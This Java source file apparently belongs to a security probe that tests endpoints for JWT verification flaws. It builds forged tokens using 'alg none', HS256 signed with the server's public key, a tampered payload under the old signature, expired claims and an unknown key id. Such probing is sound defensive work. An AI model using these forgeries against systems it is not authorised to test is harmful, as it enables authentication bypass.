package dev.wsguard.probe.internal;

import com.nimbusds.jose.util.JSONObjectUtils;
import dev.wsguard.probe.UpgradeAttack;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.text.ParseException;
import java.util.Base64;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Forgeries built from a valid compact JWS by re-encoding its parts: no key of the endpoint is needed (the HS256 one
 * uses the public key, which is public). The claims are kept as they are, so only the forgery can explain an
 * acceptance.
 */
final class Tokens {

    private static final Pattern ALG = Pattern.compile("\"alg\"\\s*:\\s*\"[^\"]*\"");
    private static final Base64.Encoder B64 = Base64.getUrlEncoder().withoutPadding();

    private Tokens() {
    }

    /** The three parts of a compact JWS. */
    static String[] parts(String token) {
        String[] parts = token.split("\\.", -1);
        if (parts.length != 3 || parts[0].isEmpty() || parts[1].isEmpty()) {
            throw new Outcome.Skip("the valid token is not a compact JWS (header.payload.signature)");
        }
        return parts;
    }

    /** The token with {@code "alg":"none"} and no signature. */
    static String algNone(String token) {
        String[] p = parts(token);
        return withAlg(p[0], "none") + "." + p[1] + ".";
    }

    /** The token signed with HMAC-SHA256 keyed by the bytes of the server's public key as published. */
    static String hs256WithKey(String token, byte[] publicKey) {
        String[] p = parts(token);
        String signingInput = withAlg(p[0], "HS256") + "." + p[1];
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(publicKey, "HmacSHA256"));
            return signingInput + "." + B64.encodeToString(mac.doFinal(signingInput.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException e) {
            throw new Outcome.Skip("no HMAC-SHA256 in this JDK: " + e.getMessage());
        }
    }

    /** The token with one claim added to its payload and its original signature kept. */
    static String tampered(String token) {
        String[] p = parts(token);
        String payload = decode(p[1]).strip();
        if (!payload.startsWith("{")) {
            throw new Outcome.Skip("the valid token's payload is not a JSON object");
        }
        String changed = "{\"wsguard_probe\":true," + payload.substring(1);
        return p[0] + "." + B64.encodeToString(changed.getBytes(StandardCharsets.UTF_8)) + "." + p[2];
    }

    /** The public key's PEM text as bytes, the secret a confused verifier would use. */
    static byte[] pem(UpgradeAttack.Given given) {
        return given.publicKeyPem().orElseThrow(() -> new Outcome.Skip("no public key given"))
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** The public key's DER bytes (the PEM body decoded), the other secret a confused verifier would use. */
    static byte[] der(UpgradeAttack.Given given) {
        String pem = new String(pem(given), StandardCharsets.US_ASCII);
        try {
            return Base64.getMimeDecoder().decode(pem.replaceAll("-----[A-Z ]+-----", "").strip());
        } catch (IllegalArgumentException e) {
            throw new Outcome.Skip("the public key's PEM body is not base64");
        }
    }

    /** The expired token given, or the valid one re-signed with the signing key as expired ten minutes ago. */
    static String expired(UpgradeAttack.Given given) {
        if (given.expiredToken().isPresent()) {
            return given.expiredToken().get();
        }
        String key = given.signingKeyPem().orElseThrow(() -> new Outcome.Skip("no expired token or signing key given"));
        return Signed.resigned(given.token(), key, h -> { }, c -> {
            c.put("iat", Signed.epoch(-900));
            c.put("exp", Signed.epoch(-600));
        });
    }

    /**
     * The valid token with claim {@code name} set to {@code value} (a String, a Long, or a List or Map of them;
     * removed when null), re-signed.
     */
    static String claim(UpgradeAttack.Given given, String name, Object value) {
        String key = given.signingKeyPem().orElseThrow(() -> new Outcome.Skip("no signing key given"));
        return Signed.resigned(given.token(), key, h -> { }, c -> {
            if (value == null) {
                c.remove(name);
            } else {
                c.put(name, value);
            }
        });
    }

    /** The valid token re-signed under a key id the endpoint cannot know; only for tokens that name one. */
    static String unknownKid(UpgradeAttack.Given given) {
        String key = given.signingKeyPem().orElseThrow(() -> new Outcome.Skip("no signing key given"));
        if (!object(parts(given.token())[0]).containsKey("kid")) {
            throw new Outcome.Skip("the valid token names no kid: an endpoint with one key may ignore it");
        }
        return Signed.resigned(given.token(), key, h -> h.put("kid", "wsguard-probe-unknown-kid"),
                c -> { });
    }

    private static String withAlg(String header, String alg) {
        Matcher m = ALG.matcher(decode(header));
        if (!m.find()) {
            throw new Outcome.Skip("the valid token's header has no alg");
        }
        String changed = m.replaceFirst("\"alg\":\"" + alg + "\"");
        return B64.encodeToString(changed.getBytes(StandardCharsets.UTF_8));
    }

    /** A header or claims part, base64url-decoded and read by Nimbus (Gson): numbers come back as Long or Double. */
    static Map<String, Object> object(String part) {
        try {
            return JSONObjectUtils.parse(decode(part));
        } catch (ParseException e) {
            throw new Outcome.Skip("the valid token's header or claims are not a JSON object");
        }
    }

    static String decode(String part) {
        try {
            return new String(Base64.getUrlDecoder().decode(part), StandardCharsets.UTF_8);
        } catch (IllegalArgumentException e) {
            throw new Outcome.Skip("the valid token is not base64url-encoded");
        }
    }
}
